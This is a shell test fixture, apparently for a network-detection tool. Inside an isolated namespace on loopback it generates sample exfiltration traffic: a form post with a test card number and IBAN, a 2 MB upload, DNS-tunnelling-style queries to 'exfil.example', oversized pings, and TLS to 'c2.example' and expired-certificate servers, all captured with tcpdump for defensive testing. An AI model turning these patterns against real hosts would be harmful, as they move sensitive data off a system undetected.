#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Run inside `unshare -n` by exfil.py: data leaving and new things, made by
# real clients and servers on lo, captured with tcpdump. The test's HOME_NET
# is 127.0.0.2, .4 and .5; 127.0.0.1 and .3 are "the Internet".
#   127.0.0.2  curl posts a form with a card number and an IBAN (HTTP),
#              uploads 2 MB to 127.0.0.3, sends 120 DNS queries to
#              127.0.0.1:53, pings with 1,200-byte payloads (if ping exists)
#   127.0.0.2  curl over TLS 1.2 to a self-signed server (127.0.0.1:8443)
#              and to one whose certificate expired in 2020 (:8444)
#   127.0.0.4  curl over TLS, then 3 s later openssl s_client (another JA4)
#   127.0.0.5  serves :9000 to 127.0.0.1 for 3 s, then opens its own
#              connection to 127.0.0.1:8080
#   $1: capture file   $2: work directory
set -e
PCAP=$1 D=$2
ip link set lo up
cd "$D"
# Certificates: one self-signed now, one self-signed that expired in 2020.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout self.key \
    -subj /CN=c2.example -days 30 -out self.pem 2>/dev/null
mkdir -p ca && : > ca/index.txt && echo 01 > ca/serial
cat > ca.cnf <<CNF
[ca]
default_ca = d
[d]
database = $D/ca/index.txt
serial = $D/ca/serial
new_certs_dir = $D/ca
default_md = sha256
policy = p
[p]
commonName = supplied
CNF
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout old.key \
    -subj /CN=old.example -out old.csr 2>/dev/null
openssl ca -batch -config ca.cnf -selfsign -keyfile old.key -in old.csr \
    -startdate 20200101000000Z -enddate 20200201000000Z -out old.pem 2>/dev/null
head -c 2000000 /dev/urandom > big.bin

tcpdump -i lo -w "$PCAP" -U -s 0 -B 16384 2>"$D/tcpdump.log" &
TP=$!
cat > srv.py <<'PY'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        while n > 0:
            n -= len(self.rfile.read(min(n, 65536)))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def do_GET(self):
        self.do_POST()
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H).serve_forever()
PY
python3 srv.py 0.0.0.0 8080 &
S1=$!
python3 srv.py 127.0.0.5 9000 &
S2=$!
openssl s_server -accept 127.0.0.1:8443 -cert self.pem -key self.key -www -quiet >/dev/null 2>&1 &
S3=$!
openssl s_server -accept 127.0.0.1:8444 -cert old.pem -key old.key -www -quiet >/dev/null 2>&1 &
S4=$!
# Whatever happens, nothing is left running (the caller waits for our
# output to close).
trap 'kill $S1 $S2 $S3 $S4 $TP 2>/dev/null || true' EXIT
i=0
while ! grep -q listening "$D/tcpdump.log" 2>/dev/null && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
# The servers start slowly on a loaded machine: wait until each accepts.
python3 - <<'PY'
import socket, time
for host, port in (("127.0.0.1", 8080), ("127.0.0.5", 9000), ("127.0.0.1", 8443),
                   ("127.0.0.1", 8444)):
    for _ in range(300):
        try:
            socket.create_connection((host, port), timeout=1).close()
            break
        except OSError:
            time.sleep(0.1)
PY
sleep 0.5

C="curl -s -o /dev/null --max-time 10"
# Data leaving 127.0.0.2.
$C --interface 127.0.0.2 --data 'name=A+Tester&card=4111+1111+1111+1111&exp=12%2F29&iban=DE89+3704+0044+0532+0130+00' http://127.0.0.1:8080/pay
$C -H "Expect:" --interface 127.0.0.2 --data-binary @big.bin http://127.0.0.3:8080/upload
python3 - <<'PY'
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.2", 0))
for i in range(120):
    name = b"".join(bytes([len(l)]) + l for l in [b"x%056d" % i, b"exfil", b"example"]) + b"\0"
    s.sendto(struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + name + b"\0\x10\0\x01", ("127.0.0.1", 53))
PY
if command -v ping >/dev/null; then ping -q -I 127.0.0.2 -c 10 -i 0.05 -s 1200 127.0.0.1 >/dev/null; fi
# Outbound TLS to bad certificates.
$C -k --tls-max 1.2 --interface 127.0.0.2 https://127.0.0.1:8443/ || true
$C -k --tls-max 1.2 --interface 127.0.0.2 https://127.0.0.1:8444/ || true
# A host's fingerprints: curl, then later another TLS client.
$C -k --interface 127.0.0.4 https://127.0.0.1:8443/ || true
# A server: serves for a while, then calls out.
for i in 1 2 3; do $C http://127.0.0.5:9000/; sleep 0.3; done
sleep 3
# Another TLS client on the same host: openssl's (TLS 1.2, its own
# cipher and extension lists: another JA4).
timeout 10 openssl s_client -bind 127.0.0.4:0 -connect 127.0.0.1:8443 -tls1_2 </dev/null \
    >/dev/null 2>&1 || true
$C --interface 127.0.0.5 http://127.0.0.1:8080/update
# tcpdump reads behind on a loaded machine: give it time to write the tail.
sleep 2
kill $S1 $S2 $S3 $S4 $TP
wait $TP 2>/dev/null || true
trap - EXIT
